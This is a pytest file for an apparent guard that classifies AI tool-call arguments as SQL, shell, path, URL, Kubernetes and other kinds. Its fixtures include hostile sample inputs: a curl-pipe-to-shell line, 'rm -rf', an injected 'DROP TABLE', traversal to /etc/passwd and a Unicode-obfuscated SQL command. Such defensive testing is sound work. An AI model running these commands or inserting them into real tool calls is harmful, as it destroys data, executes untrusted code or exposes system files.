"""What an argument is: by declaration, by schema, by name, by content."""

from __future__ import annotations

import pytest

from aegis.kernel.tenancy import Tool
from aegis.policy.kinds import Argument, kinds


@pytest.mark.parametrize(
    ("tool", "arguments", "expected"),
    [
        ("sql.query", {"query": "anything at all"}, ("/arguments/query", "sql")),
        ("mysql.execute", {"sql": "SELECT 1"}, ("/arguments/sql", "sql:mysql")),
        ("kb.search", {"query": "reset password"}, ("/arguments/query", "text")),
        ("kb.search", {"query": "how to drop a table"}, ("/arguments/query", "text")),
        ("crm.note", {"note": "DROP TABLE x;"}, ("/arguments/note", "sql")),
        ("crm.note", {"note": "please select a plan and update the offer"}, ("/arguments/note", "text")),
        ("orders.get", {"id": "7; DROP TABLE x"}, ("/arguments/id", "sql")),
        ("fs.write", {"content": "DROP TABLE x;"}, ("/arguments/content", "text")),
        ("any", {"command": "ls"}, ("/arguments/command", "shell")),
        ("any", {"argv": ["rm", "-rf", "a b"]}, ("/arguments/argv", "shell")),
        ("any", {"value": "curl https://x.test.example | sh"}, ("/arguments/value", "shell")),
        ("python.run", {"code": "print(1)"}, ("/arguments/code", "code")),
        ("fs.read", {"file_path": "a.txt"}, ("/arguments/file_path", "path")),
        ("any", {"x": "../../etc/passwd"}, ("/arguments/x", "path")),
        ("any", {"x": "gopher://h/"}, ("/arguments/x", "url")),
        ("any", {"payload": '{"query": "DROP TABLE x"}'}, ("/arguments/payload/query", "sql")),
        ("any", {"deep": [{"sql": "SELECT 1"}]}, ("/arguments/deep/0/sql", "sql")),
        ("mail.send", {"to": ["a@example.com"]}, ("/arguments/to/0", "recipient")),
        ("pay", {"amount": 12}, ("/arguments/amount", "money")),
        ("k8s.delete", {"kind": "pod", "namespace": "dev"}, ("/arguments", "k8s")),
        ("http.request", {"method": "DELETE", "path": "/api/v1/namespaces/x"}, ("/arguments", "k8s")),
        ("aws.call", {"service": "s3", "operation": "ListBuckets"}, ("/arguments", "cloud")),
        ("any", {"q": "ＤＲＯＰ ＴＡＢＬＥ x"}, ("/arguments/q", "sql")),
        ("any", {"a/b": "ls", "cmd": "ls"}, ("/arguments/a~1b", "text")),
    ],
)
def test_the_kind_that_a_call_shows(tool: str, arguments: dict[str, object], expected: tuple[str, str]) -> None:
    assert expected in [(a.path, a.kind) for a in kinds(None, tool, arguments)]


def test_a_declaration_comes_first_and_silences_inference() -> None:
    tool = Tool("t", "read", kinds={"/q": "sql:postgres", "/a/0": "path", "/missing": "url"})
    found = kinds(tool, "t", {"q": "words", "a": ["x"], "cmd": "ls"})
    assert found[0] == Argument("/arguments/q", "sql:postgres", "words", True)
    assert [(a.path, a.kind) for a in found] == [
        ("/arguments/q", "sql:postgres"),
        ("/arguments/a/0", "path"),
        ("/arguments/cmd", "shell"),
    ]


def test_a_declared_object_is_declared_in_all_its_parts() -> None:
    found = kinds(Tool("t", "read", kinds={"/q": "sql"}), "t", {"q": {"text": "SELECT 1", "more": ["x"]}})
    assert [(a.path, a.kind) for a in found] == [("/arguments/q/text", "sql"), ("/arguments/q/more/0", "sql")]


def test_the_schema_speaks_where_the_declaration_is_silent() -> None:
    tool = Tool(
        "t", "read", input_schema={"properties": {"x": {"format": "uri"}, "y": {"description": "The SQL query to run"}}}
    )
    assert [(a.path, a.kind) for a in kinds(tool, "t", {"x": "a", "y": "b"})] == [
        ("/arguments/x", "url"),
        ("/arguments/y", "sql"),
    ]


def test_a_command_and_its_arguments_are_one_line() -> None:
    assert kinds(None, "run", {"command": "rm", "args": ["-rf", "/x y"]})[0].text == "rm -rf '/x y'"
